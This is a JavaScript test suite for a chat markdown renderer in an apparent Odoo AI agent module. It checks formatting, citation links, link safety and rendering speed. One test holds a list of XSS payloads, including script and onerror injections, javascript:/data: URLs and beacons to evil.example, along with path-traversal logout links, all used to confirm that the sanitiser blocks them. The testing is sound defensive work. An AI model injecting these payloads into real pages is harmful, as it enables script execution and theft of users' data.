import { describe, expect, test } from "@odoo/hoot";
import { mockLocation } from "@odoo/hoot-mock";
import { layOut, safeLink } from "@steward_agent/chat/markdown";

/** What a browser makes of it. */
function made(text, sources) {
    const div = document.createElement("div");
    div.innerHTML = layOut(text, sources);
    return div;
}

describe("what it looks like", () => {
    test("words", () => {
        const { innerHTML } = made("a **b** *c* _d_ ~~e~~ `f<g>` snake_case_name 2*3*4");
        expect(innerHTML).toBe(
            "<p>a <strong>b</strong> <em>c</em> <em>d</em> <s>e</s> <code>f&lt;g&gt;</code>" +
                " snake_case_name 2*3*4</p>"
        );
    });

    test("blocks", () => {
        expect(made("# A\n\nb\nc\n\n---\n> d").innerHTML).toBe(
            "<h4>A</h4><p>b<br>c</p><hr><blockquote><p>d</p></blockquote>"
        );
        expect(made("```python\na <b>\n  **c**\n```\nd").innerHTML).toBe(
            "<pre><code>a &lt;b&gt;\n  **c**</code></pre><p>d</p>"
        );
        expect(made("```\nwhat is being written").innerHTML).toBe(
            "<pre><code>what is being written</code></pre>"
        );
    });

    test("lists", () => {
        expect(made("3. a\n4. b\n   - c\n   - d\n\ne").innerHTML).toBe(
            '<ol start="3"><li>a</li><li>b<ul><li>c</li><li>d</li></ul></li></ol><p>e</p>'
        );
    });

    test("tables", () => {
        const table = made("| a | b |\n|---|--:|\n| **c** | d |\n\ne").querySelector("table");
        expect(table.querySelectorAll("th")).toHaveLength(2);
        expect(table.querySelector("td").innerHTML).toBe("<strong>c</strong>");
    });

    test("what an answer refers to", () => {
        const sources = [
            { title: 'The "R" <page>', number: 1, url: "/odoo/refunds" },
            { title: "Gone", number: 2, url: "" },
        ];
        const links = made("It is so [1], perhaps [2], or [3].", sources).querySelectorAll("a");
        expect(links).toHaveLength(1);
        expect(links[0].getAttribute("href")).toBe("/odoo/refunds");
        expect(links[0].title).toBe('The "R" <page>');
    });
});

describe("what it never does", () => {
    const HOSTILE = [
        "<script>steal()</script>",
        "<img src=x onerror=steal()>",
        "![](https://evil.example/pixel.png?secret)",
        "![x](x onerror=steal())",
        "[a](javascript:steal())",
        "[a](JaVaScRiPt:steal())",
        "[a](\tjavascript:steal())",
        "[a](data:text/html,<script>steal()</script>)",
        "[a](vbscript:steal())",
        "[a](//evil.example)",
        '[a](https://evil.example/"onmouseover="steal())',
        '**<b onclick="steal()">**',
        '`<i onclick="steal()">`',
        "```\n</code></pre><script>steal()</script>\n```",
        '| <a href="javascript:steal()"> |\n|---|\n| <svg onload=steal()> |',
        "> <iframe src=javascript:steal()>",
        "- <style>*{background:url(https://evil.example)}</style>",
        "# <form action=https://evil.example><button>",
        '[<img src=x>](https://a.example "onerror=steal()")',
        "https://evil.example/'\"><script>",
        "[1]<script>",
        "&lt;script&gt;",
    ];
    const ALLOWED = new Set(
        ("P BR STRONG EM S CODE PRE A SMALL UL OL LI H4 H5 H6 HR BLOCKQUOTE DIV TABLE THEAD" +
            " TBODY TR TH TD").split(" ")
    );

    test("no tag, no attribute and no picture but ours", () => {
        const sources = [{ title: '"><script>', number: 1, url: "javascript:steal()" }];
        // each alone, and all of them within one another
        const texts = [...HOSTILE, HOSTILE.join("\n"), HOSTILE.map((t) => `> - ${t}`).join("\n")];
        for (const text of texts) {
            for (const el of made(text, sources).querySelectorAll("*")) {
                expect(ALLOWED.has(el.tagName)).toBe(true, { message: `${el.tagName}: ${text}` });
                for (const { name, value } of el.attributes) {
                    expect(["href", "target", "rel", "class", "title", "start"]).toInclude(name);
                    expect(/^\s*(javascript|data|vbscript):/i.test(value)).toBe(false);
                }
            }
        }
    });

    test("links lead to pages, or visibly elsewhere", () => {
        mockLocation.href = "https://our.example/odoo";
        expect(safeLink("/odoo/sales/7?debug=1#a")).toEqual({
            href: "/odoo/sales/7?debug=1#a",
            host: "",
        });
        expect(safeLink("https://other.example/a").host).toBe("other.example");
        for (const url of [
            "/web/session/logout",
            "/odoo/../web/session/logout",
            "/odoo\\..\\..\\web/session/logout",
            "https://our.example/web/session/logout",
            "javascript:steal()",
            "mailto:a@b.c",
            "https://user:pw@other.example",
            "http://[",
        ]) {
            expect(safeLink(url)).toBe(undefined, { message: url });
        }
        const shown = made("[our page](https://other.example/a)");
        expect(shown.textContent).toBe("our page (other.example)");
        expect(shown.querySelector("a").rel).toInclude("noopener");
    });

    test("it takes no time, whatever is written", () => {
        for (const piece of ["`", "*", "_", "[", "[a](", "~", "> ", "- ", "|", "| -", " ", "https://", "1. "]) {
            for (const text of [piece.repeat(20_000), `${piece}\n`.repeat(4_000)]) {
                const began = performance.now();
                layOut(text);
                const took = performance.now() - began;
                expect(took).toBeLessThan(1500, { message: JSON.stringify(piece) });
            }
        }
    });
});
